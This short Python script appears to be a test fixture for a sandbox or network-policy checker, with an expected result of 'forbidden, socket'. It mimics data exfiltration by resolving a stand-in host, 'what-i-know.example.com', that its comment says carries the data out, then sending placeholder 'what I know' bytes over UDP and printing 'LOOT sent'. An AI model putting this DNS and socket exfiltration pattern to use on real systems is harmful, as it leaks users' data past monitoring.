# Sends what it knows out as the name of a host that it asks for.
# ends: forbidden, socket
import json
import socket
import sys

about = json.load(sys.stdin)
socket.getaddrinfo("what-i-know.example.com", 80)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
    line.sendto(b"what I know", ("127.0.0.1", about["port"]))
    print("LOOT sent")
